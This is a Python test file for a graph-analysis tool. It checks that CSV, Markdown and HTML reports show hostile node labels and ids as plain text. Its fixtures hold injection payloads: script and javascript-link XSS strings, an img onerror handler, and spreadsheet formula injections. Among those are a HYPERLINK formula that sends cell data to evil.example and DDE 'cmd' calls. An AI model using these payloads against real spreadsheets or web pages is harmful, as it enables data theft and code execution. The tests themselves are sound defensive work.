"""Labels and ids are data in every CSV and Markdown output: a spreadsheet runs no formula from a
cell, and the Markdown (and its HTML) shows a hostile label as the text it is.

The real graph with hostile labels and one hostile id put in its N-Triples (as ``analyze --graph``
or an endpoint could serve them), then analysed and compared with ``diff``.
"""

from __future__ import annotations

import csv
import io
import json
import re
import warnings
from html import escape
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from practice_graph.core.paths import NTRIPLES
from practice_graph.sparql.store import oxigraph_store
from practice_graph.views.diff import compare, diff_markdown, read_snapshot
from practice_graph.views.read import Source
from practice_graph.views.report import REPORT, REPORT_HTML, render_analysis

ID = "https://w3id.org/practice-graph/id/"
RDFS_LABEL = "<http://www.w3.org/2000/01/rdf-schema#label>"
PREF_LABEL = "<http://www.w3.org/2004/02/skos/core#prefLabel>"
IDENTIFIER = "<http://purl.org/dc/terms/identifier>"

MARKUP = "<script>alert(1)</script> | *bold* _em_ [x](javascript:alert(1)) ~~gone~~ <img src=x onerror=alert(2)>"
FORMULAS = {  # a label per formula trick, and where it goes
    "gushi-en": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "gushi-zh": "@SUM(1+1)*cmd|' /C calc'!A0",
    "housing-en": "-2+3+cmd|' /C calc'!A0",
    "housing-zh": "+1+1",
    "henan-zh": "\t=1+1",
}
HOSTILE_ID = 'p-1-1-1") [y](javascript:alert(3)) <b>"x'
LIST_LABEL = "1. not a list item"


def literal(text: str, language: str | None = None) -> str:
    """An N-Triples literal (JSON's string escapes are N-Triples' for these characters)."""
    return json.dumps(text, ensure_ascii=False) + (f"@{language}" if language else "")


def label_triple(node: str, predicate: str, text: str, language: str) -> str:
    """One label triple of a node of the graph, as written in canonical N-Triples."""
    return f"<{ID}{node}> {predicate} {literal(text, language)} ."


@pytest.fixture(scope="module")
def hostile_ntriples(built) -> bytes:
    text = built.files[NTRIPLES].decode("utf-8")
    labels = [  # node, predicate, language, label in the graph, hostile label
        ("gushi", RDFS_LABEL, "en", "Gushi County", FORMULAS["gushi-en"]),
        ("gushi", RDFS_LABEL, "zh", "固始县", FORMULAS["gushi-zh"]),
        ("henan", RDFS_LABEL, "en", "Henan Province", MARKUP),
        ("henan", RDFS_LABEL, "zh", "河南省", FORMULAS["henan-zh"]),
    ]
    for predicate in (RDFS_LABEL, PREF_LABEL):  # a concept has both
        labels += [("department-types/housing", predicate, "en", "Housing and urban-rural development",
                    FORMULAS["housing-en"]),
                   ("department-types/housing", predicate, "zh", "住房和城乡建设", FORMULAS["housing-zh"])]
    replacements = [(label_triple(node, predicate, old, language), label_triple(node, predicate, new, language))
                    for node, predicate, language, old, new in labels]
    replacements.append((f'<{ID}p-1-1-1> {IDENTIFIER} "p-1-1-1" .',
                         f"<{ID}p-1-1-1> {IDENTIFIER} {literal(HOSTILE_ID)} ."))
    for old, new in replacements:
        assert old in text, old
        text = text.replace(old, new)
    # one more label on the line of its own in the report's appendix: a practice's Chinese label
    practice_label = re.search(rf'^<{re.escape(ID)}p-1-1-2> {re.escape(RDFS_LABEL)} ("[^\n]*"@zh) \.$', text, re.M)
    assert practice_label
    text = text.replace(practice_label.group(0), label_triple("p-1-1-2", RDFS_LABEL, LIST_LABEL, "zh"))
    return text.encode("utf-8")


@pytest.fixture(scope="module")
def analysis_files(hostile_ntriples: bytes) -> dict[str, bytes]:
    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", "Glyph 9")  # the tab of a hostile label, drawn in a chart
        return render_analysis(Source(store=oxigraph_store(hostile_ntriples)))


# ------------------------------------------------------------------------------------------ CSV
def cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_no_csv_cell_starts_a_formula(analysis_files) -> None:
    tables = {name: cells(content) for name, content in analysis_files.items() if name.endswith(".csv")}
    assert len(tables) >= 10
    plain_number = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?")
    seen = set()
    for name, rows in tables.items():
        for row in rows:
            for cell in row:
                if cell and cell[0] in "=+-@\t\r":
                    assert plain_number.fullmatch(cell), (name, cell)
                seen.update(key for key, label in FORMULAS.items() if cell == "'" + label)
    # each hostile label is in some table, intact behind the one quote mark that makes it text
    assert seen == set(FORMULAS)


def test_plain_numbers_stay_numbers(analysis_files) -> None:
    rollup = {row["region"]: row for row in csv.DictReader(
        io.StringIO(analysis_files["region_rollup.csv"].decode("utf-8-sig"), newline=""))}
    assert rollup["gushi"]["region_en"] == "'" + FORMULAS["gushi-en"]
    # the source's "1. 河南省固始县大力发展专业作业企业" and "4. 河南省固始县一体推进建筑劳务企业培育…"
    assert rollup["gushi"]["practices"] == "2"


# ------------------------------------------------------------------------------------- Markdown
class Page(HTMLParser):
    """The elements, link targets and table rows of an HTML page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[str] = []
        self.ids: list[str] = []
        self.images: list[str] = []
        self.rows: list[list[str]] = []  # the cell tags (th/td) of each row

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        values = dict(attrs)
        if tag == "a" and values.get("href") is not None:
            self.links.append(values["href"] or "")
        if tag == "a" and values.get("id") is not None:
            self.ids.append(values["id"] or "")
        if tag == "img":
            self.images.append(values.get("src") or "")
        if tag == "tr":
            self.rows.append([])
        elif tag in {"td", "th"}:
            self.rows[-1].append(tag)


def rendered(markdown: str, allow_html: bool) -> Page:
    page = Page()
    page.feed(MarkdownIt("commonmark", {"html": allow_html}).enable(["table", "strikethrough"]).render(markdown))
    return page


def assert_shown_as_text(page: Page, html: str) -> None:
    """No element a label could have made; links only within the page or to the files beside it."""
    assert not {"script", "b", "ol"} & set(page.tags), {"script", "b", "ol"} & set(page.tags)
    assert all(re.fullmatch(r"[\w-]+\.png", source) for source in page.images), page.images  # the report's charts
    assert all(re.fullmatch(r"#[A-Za-z0-9_-]+|[\w.-]+", link) for link in page.links), page.links
    assert all(re.fullmatch(r"[A-Za-z0-9_-]+", anchor) for anchor in page.ids), page.ids
    # the label as written: not a script, not emphasis, not a link, not struck through
    assert "&lt;script&gt;alert(1)&lt;/script&gt; | *bold* _em_ [x](javascript:alert(1)) ~~gone~~" in html


def test_the_report_shows_hostile_labels_and_ids_as_text(analysis_files) -> None:
    markdown = analysis_files[REPORT].decode("utf-8")
    outside_code = re.sub(r"(`+).*?\1", "", markdown)  # code spans show their text as is
    assert not re.search(r"(?<!\\)<(script|img|b)\b", outside_code)  # every other < of a label is escaped: \<
    for allow_html in (False, True):  # our HTML rendering, and a renderer that passes HTML through
        html = MarkdownIt("commonmark", {"html": allow_html}).enable(["table", "strikethrough"]).render(markdown)
        page = rendered(markdown, allow_html)
        assert_shown_as_text(page, html)
        header_width = {len(row) for row in page.rows if row and row[0] == "th"}
        assert all(len(row) in header_width for row in page.rows), "a | in a label split a table cell"
    report_html = analysis_files[REPORT_HTML].decode("utf-8")  # the page written beside report.md
    assert report_html.count("<script") == report_html.count('<script type="application/ld+json">') == 1
    page = Page()
    page.feed(report_html)
    assert all(re.fullmatch(r"#[A-Za-z0-9_-]+|[\w.-]+", link) for link in page.links), page.links
    assert "&lt;script&gt;alert(1)&lt;/script&gt; | *bold* _em_ [x](javascript:alert(1)) ~~gone~~" in report_html


def test_a_label_that_looks_like_a_list_item_stays_a_paragraph(analysis_files) -> None:
    markdown = analysis_files[REPORT].decode("utf-8")
    html = MarkdownIt("commonmark", {"html": False}).render(markdown)
    assert f"<p>{LIST_LABEL}</p>" in html


def test_diff_markdown_shows_hostile_labels_and_ids_as_text(built, hostile_ntriples) -> None:
    result = compare(read_snapshot(built.files[NTRIPLES], "old"), read_snapshot(hostile_ntriples, "new"))
    markdown = diff_markdown(result)
    assert not re.search(r"(?<!\\)<(script|img|b)\b", re.sub(r"(`+).*?\1", "", markdown))
    for allow_html in (False, True):
        html = MarkdownIt("commonmark", {"html": allow_html}).enable(["table", "strikethrough"]).render(markdown)
        page = rendered(markdown, allow_html)
        assert_shown_as_text(page, html)
        assert f"<code>{escape(HOSTILE_ID)}</code>" in html
